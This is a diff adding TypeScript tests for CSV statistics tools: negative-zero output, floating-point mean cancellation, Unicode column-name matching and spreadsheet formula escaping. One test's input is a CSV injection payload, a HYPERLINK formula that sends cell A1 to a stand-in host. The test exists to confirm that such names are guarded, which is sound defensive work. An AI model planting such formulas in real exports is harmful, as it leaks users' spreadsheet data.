@@ -235,6 +235,13 @@ const CORPUS: Record<string, Expected> = {
     columns: ["x", "y", "z"],
     numeric: { x: [3, 5 / 3], y: [2, 1.7e308], z: [2, 0] },
   },
+  // -0 written as -0 and as -0.0, and -1e-400 (a -0 once read): all three write 0
+  "negative-zero.csv": {
+    exit: 0,
+    rows: 2,
+    columns: ["a", "b", "c"],
+    numeric: { a: [2, 0], b: [2, 0], c: [2, 0.5] },
+  },
   "ragged-short.csv": { exit: 3 },
   "ragged-long.csv": { exit: 3 }, // a header one field shorter than the rows
   "ragged-late.csv": { exit: 3 }, // a short row after the first five
@@ -556,4 +563,127 @@ test("python-stats and r-report: a one-value column's stdev is null (blank) with
   );
   assert.equal(one?.stdev, null);
   assert.equal(one?.notes, "stdev needs at least two values");
+});
+
+test("summary, python-stats and r-report write -0 as 0", {
+  skip: skipUnless("summary", "python-stats", "r-report"),
+}, async () => {
+  // python-stats wrote "-0.0" (stats.json and stats.csv) where summary and r-report wrote 0.
+  const isPlusZero = (v: unknown, what: string) => assert.ok(Object.is(v, 0), `${what}: ${v}`);
+  const summary = await run(program("summary") as Program, corpus("negative-zero.csv"), {});
+  assert.equal(summary.r.exitCode, 0, summary.r.stderrTail);
+  const [a, b] = readJson(summary.out, "summary.json").columns;
+  for (const [name, c] of Object.entries({ a, b }))
+    for (const s of ["min", "max", "mean"]) isPlusZero(c[s], `summary: ${s} of ${name}`);
+  for (const method of ["min", "max", "median", "mean"]) {
+    const { r, out } = await run(program("python-stats") as Program, corpus("negative-zero.csv"), { method });
+    assert.equal(r.exitCode, 0, r.stderrTail);
+    const s = readJson(out, "stats.json");
+    isPlusZero(s.columns.a, `python-stats: ${method} of a`);
+    isPlusZero(s.columns.b, `python-stats: ${method} of b`);
+    assert.doesNotMatch(fs.readFileSync(path.join(out, "stats.csv"), "utf8"), /-0/, `${method}: stats.csv`);
+  }
+  const report = await run(program("r-report") as Program, corpus("negative-zero.csv"), {});
+  assert.equal(report.r.exitCode, 0, report.r.stderrTail);
+  const html = fs.readFileSync(path.join(report.out, "report.html"), "utf8");
+  assert.doesNotMatch(html, /<td>-0<\/td>/);
+  const [ra, , rc] = reportTable(html) as ReportRow[];
+  assert.deepEqual([ra?.min, ra?.median, ra?.max, ra?.mean], [0, 0, 0, 0]);
+  assert.equal(rc?.min, 0);
+});
+
+test("summary, python-stats and r-report agree on a mean whose sum cancels: the sum in doubles, in file order", {
+  skip: skipUnless("summary", "python-stats", "r-report"),
+}, async () => {
+  // 1e16 + 1 is 1e16 in doubles: summary and python-stats said 0, r-report (sum() adds in long double)
+  // 0.333333.
+  const input = path.join(work, "cancel.csv");
+  fs.writeFileSync(input, "x\n1e16\n1\n-1e16\n");
+  const expected = (1e16 + 1 + -1e16) / 3;
+  const summary = await run(program("summary") as Program, input, {});
+  assert.equal(summary.r.exitCode, 0, summary.r.stderrTail);
+  assert.equal(readJson(summary.out, "summary.json").columns[0].mean, expected);
+  const stats = await run(program("python-stats") as Program, input, { method: "mean" });
+  assert.equal(stats.r.exitCode, 0, stats.r.stderrTail);
+  assert.equal(readJson(stats.out, "stats.json").columns.x, expected);
+  const report = await run(program("r-report") as Program, input, {});
+  assert.equal(report.r.exitCode, 0, report.r.stderrTail);
+  const [x] = reportTable(fs.readFileSync(path.join(report.out, "report.html"), "utf8")) as ReportRow[];
+  assert.equal(x?.mean, expected);
+});
+
+test("python-stats: stats.csv quotes a column name a spreadsheet would run, as results.csv does", {
+  skip: skipUnless("python-stats"),
+}, async () => {
+  const input = path.join(work, "formula-names.csv");
+  fs.writeFileSync(
+    input,
+    '=HYPERLINK("http://x.example/?"&A1),+x,-y,@z,"\tt",plain,\'q,name\n1,-3.5,3,4,5,6,7,x\n',
+  );
+  const { r, out } = await run(program("python-stats") as Program, input, { method: "max" });
+  assert.equal(r.exitCode, 0, r.stderrTail);
+  assert.equal(
+    fs.readFileSync(path.join(out, "stats.csv"), "utf8"),
+    [
+      "column,max",
+      '"\'=HYPERLINK(""http://x.example/?""&A1)",1.0',
+      "'+x,-3.5", // the name guarded, the number as it is
+      "'-y,3.0",
+      "'@z,4.0",
+      "t,5.0", // (names are trimmed of tabs)
+      "plain,6.0",
+      "'q,7.0",
+      "",
+    ].join("\r\n"),
+  );
+  // stats.json is no spreadsheet: its names are as in the header
+  assert.deepEqual(Object.keys(readJson(out, "stats.json").columns), [
+    '=HYPERLINK("http://x.example/?"&A1)',
+    "+x",
+    "-y",
+    "@z",
+    "t",
+    "plain",
+    "'q",
+  ]);
+});
+
+test("python-stats: columns are found as the header's names are read: trimmed, in any Unicode form", {
+  skip: skipUnless("python-stats"),
+}, async () => {
+  // The header's names are trimmed, so " height " never matched; "café" typed (NFC) never matched a
+  // header written in NFD.
+  const input = path.join(work, "columns-forms.csv");
+  fs.writeFileSync(input, "\ufeffid, height ,cafe\u0301,label\n1,170,3.5,x\n2,180,4.5,y\n");
+  const cases: [string[], Record<string, number>][] = [
+    [[" height ", "caf\u00e9"], { height: 180, "cafe\u0301": 4.5 }],
+    [["height", "cafe\u0301"], { height: 180, "cafe\u0301": 4.5 }],
+    [["\theight\r\n"], { height: 180 }],
+  ];
+  for (const [columns, want] of cases) {
+    const { r, out } = await run(program("python-stats") as Program, input, { method: "max", columns });
+    assert.equal(r.exitCode, 0, `${JSON.stringify(columns)}: ${r.stderrTail}`);
+    assert.deepEqual(readJson(out, "stats.json").columns, want, JSON.stringify(columns));
+  }
+  // Still exit 2: a name the header does not have (case counts), a blank one, and one that names two
+  // columns, which differ only in their Unicode form.
+  const refused: [string, string[], RegExp][] = [
+    [input, ["Height"], /no such columns: Height/],
+    [input, ["  "], /columns must be names, not blank/],
+  ];
+  const twoForms = path.join(work, "two-forms.csv");
+  fs.writeFileSync(twoForms, "caf\u00e9,cafe\u0301\n1,2\n");
+  refused.push([twoForms, [" caf\u00e9"], /names more than one column/]);
+  for (const [file, columns, message] of refused) {
+    const { r } = await run(program("python-stats") as Program, file, { method: "max", columns });
+    assert.equal(r.exitCode, 2, JSON.stringify(columns));
+    assert.match(r.stderrTail, message);
+  }
+  // A name as it is in the header is that column, even beside another form of it.
+  const { r, out } = await run(program("python-stats") as Program, twoForms, {
+    method: "max",
+    columns: ["cafe\u0301"],
+  });
+  assert.equal(r.exitCode, 0, r.stderrTail);
+  assert.deepEqual(readJson(out, "stats.json").columns, { "cafe\u0301": 2 });
 });
